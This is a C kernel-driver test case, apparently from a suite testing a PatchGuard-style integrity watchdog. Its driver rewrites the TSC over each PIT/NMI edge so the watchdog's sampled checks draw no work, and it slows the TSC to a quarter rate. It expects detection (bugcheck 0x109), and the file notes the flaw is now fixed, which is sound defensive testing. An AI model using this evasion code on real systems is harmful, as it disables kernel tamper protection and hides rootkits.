/* attack_a133_tsc_draw (A133): the NMI's work draw steered through the TSC.
 * In the windows profile the NMI decides from the TSC it reads whether it
 * does its work (one NMI in 32: the TSC's low half scattered by a multiply,
 * patchguard/nmi_entry.h), and the watchdog's checks ride on that work.
 * From a periodic timer of its own on every tick the driver latches PIT
 * channel 0's count; when the channel's edge (the NMI) comes within two
 * ticks it waits for it (halted until the last tick before it, then
 * polling), and over the edge, interrupts off, writes the
 * TSC again and again with one value whose next 54 counts all draw no work
 * (the longest such run of that multiply), then puts the TSC back where it
 * would have been (the counts it ran meanwhile added up from RDTSC before
 * every write). No NMI does its work again. With it (the argument `slow`)
 * goes A130's `slow` (the TSC written back from the same timer so that it
 * advances a quarter as fast as it runs), which only the watchdog's check
 * of the TSC against the PM timer sees. In the other profiles every NMI
 * (every watchdog interrupt) works and the draw is not used. Expected:
 * 0x109 type 0x7 at IA32_TSC wherever an NMI still does its work. */
#include "attack_pg.h"
#include "../../patchguard/nmi_entry.h"

#define MSR_TSC 0x10
#define PIT_CH0 0x40
#define PIT_CMD 0x43
#define PIT_LATCH_CH0 0x00
#define PIT_HZ 1193182ull
#define TICK_PIT (PIT_HZ / KPP_TICK_HZ) /* PIT counts in a tick */
#define LEAD 64                         /* PIT counts before the edge: interrupts off from here */
#define AFTER 64                        /* and this many past it */
#define RUN 54                          /* counts that draw no work from the pinned value on */

static struct ktimer pinner;
static struct dpc pinner_dpc;
static uint64_t written; /* the TSC as last written (`slow`) */
static uint64_t edges, pinned, missed; /* edges waited for, held over, missed (for a debugger) */
static uint64_t tsc_per_pit; /* TSC counts per PIT count << 16, measured at load */

/* The draw it steers: the TSC's low half times this, below
 * PG_NMI_WORK_LIMIT (the NMI's rule until A133 was found; the draw is now
 * RDRAND's with the PM timer and the tick under a sealed key, nmi_entry.S,
 * and the driver holds the TSC to no effect on it). */
#define TSC_SCATTER 0x9E3779B1u
static bool draws_work(uint32_t t) { return (uint32_t)(t * TSC_SCATTER) < PG_NMI_WORK_LIMIT; }

/* A low half of the TSC whose next RUN counts all draw no work (found at
 * load: the search takes longer than the lead before an edge). */
static uint32_t quiet;

static uint32_t quiet_from(uint32_t t)
{
	for (;; t++) {
		bool ok = true;
		for (uint32_t i = 0; i < RUN && ok; i++)
			ok = !draws_work(t + i);
		if (ok)
			return t;
	}
}

/* PIT channel 0's count (a rate generator: from its reload down to 1; 0
 * reads as 65536). Interrupts off around the latch. */
static uint32_t pit_count(void)
{
	uint64_t f = a_cli();
	a_outb(PIT_CMD, PIT_LATCH_CH0);
	uint32_t c = a_inb(PIT_CH0);
	c |= (uint32_t)a_inb(PIT_CH0) << 8;
	a_restore(f);
	return c ? c : 0x10000;
}

/* Interrupts off: the TSC held at v over the channel's next edge, then put
 * back by the counts it ran. The count at the start is at most LEAD. */
static void pin_over_edge(uint32_t c)
{
	uint64_t last = a_rdtsc(), real = last, v = (last & ~0xFFFFFFFFull) | quiet;
	uint32_t prev = c, top = 0;
	a_wrmsr(MSR_TSC, v);
	last = v;
	for (;;) {
		for (int k = 0; k < 4; k++) {
			uint64_t t = a_rdtsc();
			real += t - last;
			a_wrmsr(MSR_TSC, v);
			last = v;
		}
		a_outb(PIT_CMD, PIT_LATCH_CH0);
		c = a_inb(PIT_CH0);
		c |= (uint32_t)a_inb(PIT_CH0) << 8;
		c = c ? c : 0x10000;
		if (!top) {
			if (c > prev)
				top = c; /* the edge: the count reloaded */
			else
				prev = c;
		} else if (c + AFTER < top) {
			break;
		}
	}
	a_wrmsr(MSR_TSC, real + (a_rdtsc() - last));
	pinned++;
}

static void every_tick(struct dpc *d, void *ctx)
{
	(void)d;
	(void)ctx;
	uint32_t c = pit_count();
	if (c <= 2 * TICK_PIT) {
		/* The edge comes within two ticks (a DPC of PatchGuard's pass
		 * ahead of this one may run past the next tick): halt until
		 * the next tick while it is further than a tick and a bit (the
		 * DPCs that tick queues wait behind this one), then wait with
		 * interrupts on, by the TSC and then by the count, and hold
		 * the TSC over the edge. */
		while (c > TICK_PIT + TICK_PIT / 8 && c <= 2 * TICK_PIT) {
			__asm__ volatile("sti; hlt" ::: "memory");
			c = pit_count();
		}
		if (c > 2 * TICK_PIT) { /* passed meanwhile */
			missed++;
			goto out;
		}
		uint64_t until = a_rdtsc() + ((uint64_t)(c > 4 * LEAD ? c - 4 * LEAD : 0) * tsc_per_pit >> 16);
		while (a_rdtsc() < until)
			__asm__ volatile("pause");
		uint32_t prev = pit_count();
		for (;;) {
			uint64_t f = a_cli();
			a_outb(PIT_CMD, PIT_LATCH_CH0);
			c = a_inb(PIT_CH0);
			c |= (uint32_t)a_inb(PIT_CH0) << 8;
			c = c ? c : 0x10000;
			if (c > prev) { /* passed while interrupted */
				missed++;
				a_restore(f);
				break;
			}
			if (c <= LEAD) {
				pin_over_edge(c);
				a_restore(f);
				break;
			}
			a_restore(f);
			prev = c;
		}
		edges++;
	}
out:;
	uint64_t f = a_cli();
	uint64_t t = a_rdtsc();
	written += (t - written) / 4;
	a_wrmsr(MSR_TSC, written);
	a_restore(f);
}

status_t driver_entry(struct driver_object *drv)
{
	if (strcmp(drv->args, "slow")) {
		printk("attack_a133: unknown mode\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	/* The TSC's rate in PIT counts, over 1,024 of them (0.86 ms) with no
	 * reload between. */
	while (!tsc_per_pit) {
		uint32_t c0 = pit_count(), c1 = c0;
		uint64_t t0 = a_rdtsc(), t1 = t0;
		while (c1 <= c0 && c0 - c1 < 1024) {
			c1 = pit_count();
			t1 = a_rdtsc();
		}
		if (c1 <= c0)
			tsc_per_pit = ((t1 - t0) << 16) / (c0 - c1);
	}
	quiet = quiet_from(0);
	uint64_t pf = a_cli();
	written = a_rdtsc();
	dpc_init(&pinner_dpc, every_tick, NULL);
	timer_init(&pinner, &pinner_dpc);
	timer_set(&pinner, NSEC_PER_TICK, NSEC_PER_TICK);
	printk("attack_a133: the TSC held at a no-work value over every PIT edge, and slowed to a quarter of its rate\n");
	a_patched("attack_a133");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
